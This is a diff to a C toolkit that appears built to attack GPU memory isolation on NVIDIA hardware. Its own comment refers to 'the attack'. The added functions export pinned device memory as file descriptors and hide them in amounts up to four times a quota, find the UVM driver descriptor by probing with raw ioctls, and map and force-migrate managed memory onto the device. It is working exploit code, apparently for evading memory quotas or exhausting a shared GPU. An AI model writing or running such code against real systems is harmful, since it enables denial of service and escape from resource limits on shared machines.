@@ -9,6 +9,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <unistd.h>
 
 enum {
@@ -21,9 +22,33 @@ enum {
         CLASS_SUBDEVICE = 0x2080,
         CLASS_MEMORY = 0x40,
         HOLD_MSEC = 60 * 1000,
+
+        UVM_MIGRATE = 51,
+        UVM_VALIDATE_RANGE = 72,
+        FDS = 1024,
 };
 
+/* Only the attack's first process keeps the end that is written to; with it the other end hangs up. */
+static int leash[2];
+
 static CUcontext context;
+static CUuuid uuid;
+uint64_t kit_map_at = 0x600000000000ull;
+
+__attribute__((constructor)) static void leash_make(void)
+{
+        if (pipe2(leash, O_CLOEXEC) < 0)
+                kit_cannot("no pipe");
+}
+
+_Noreturn void kit_wait_for_end(void)
+{
+        char byte;
+
+        (void)close(leash[1]);
+        (void)!read(leash[0], &byte, 1);
+        _exit(0);
+}
 
 /* ---- CUDA ---------------------------------------------------------------------------------------- */
 
@@ -42,6 +67,7 @@ void kit_start(void)
         setvbuf(stdout, NULL, _IOLBF, 0);
         must("cuInit", cuInit(0));
         must("cuDeviceGet", cuDeviceGet(&device, 0));
+        must("cuDeviceGetUuid", cuDeviceGetUuid(&uuid, device));
         must("cuDevicePrimaryCtxRetain", cuDevicePrimaryCtxRetain(&context, device));
         kit_join();
 }
@@ -94,6 +120,86 @@ uint64_t kit_take_managed(uint64_t piece_mib, uint64_t most_mib)
                 got += piece_mib;
         }
         (void)cuCtxSynchronize();
+        return got;
+}
+
+int kit_export(uint64_t mib)
+{
+        const CUmemAllocationProp property = { .type = CU_MEM_ALLOCATION_TYPE_PINNED,
+                                               .requestedHandleTypes = CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR,
+                                               .location = { .type = CU_MEM_LOCATION_TYPE_DEVICE, .id = 0 } };
+        CUmemGenericAllocationHandle handle;
+        int fd = -1;
+
+        if (cuMemCreate(&handle, mib * MIB, &property, 0) != CUDA_SUCCESS)
+                return -1;
+        if (cuMemExportToShareableHandle(&fd, handle, CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR, 0) != CUDA_SUCCESS)
+                fd = -1;
+        (void)cuMemRelease(handle);
+        return fd;
+}
+
+uint64_t kit_hide_exports(bool (*hide)(int fd))
+{
+        const uint64_t piece = 256, most = 4 * kit_quota_mib();
+        uint64_t got = 0;
+        int refused = 0;
+
+        while (got < most && refused < 3) {
+                int fd = kit_export(piece);
+
+                if (fd < 0) {
+                        refused++;
+                        kit_let_it_settle();
+                        continue;
+                }
+                if (!hide(fd))
+                        kit_cannot("nowhere to hide a descriptor");
+                (void)close(fd);
+                got += piece;
+        }
+        return got;
+}
+
+int kit_uvm(void)
+{
+        for (int fd = 3; fd < FDS; fd++) {
+                unsigned char block[24] = { 0 };
+
+                kit_put64(block, 8, 4096);
+                kit_put32(block, 16, 0xffffffffu);
+                if (ioctl(fd, UVM_VALIDATE_RANGE, block) == 0 && kit_get32(block, 16) != 0xffffffffu)
+                        return fd;
+        }
+        kit_cannot("no descriptor of UVM");
+}
+
+/* A device that is asked for nothing holds nothing: the pages go there now. */
+static void migrate(int uvm, uint64_t base, uint64_t length)
+{
+        unsigned char block[80] = { 0 };
+
+        kit_put64(block, 0, base);
+        kit_put64(block, 8, length);
+        memcpy(block + 16, &uuid, 16);
+        kit_put32(block, 52, 0xffffffffu); /* no NUMA node of the host */
+        (void)ioctl(uvm, UVM_MIGRATE, block);
+}
+
+uint64_t kit_map_managed(int uvm, uint64_t piece_mib, uint64_t most_mib)
+{
+        uint64_t got = 0, length = piece_mib * MIB;
+
+        while (got + piece_mib <= most_mib) {
+                uint64_t base = kit_map_at;
+
+                if (mmap((void *)base, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm, (off_t)base) ==
+                    MAP_FAILED)
+                        break;
+                migrate(uvm, base, length);
+                kit_map_at += length;
+                got += piece_mib;
+        }
         return got;
 }
 
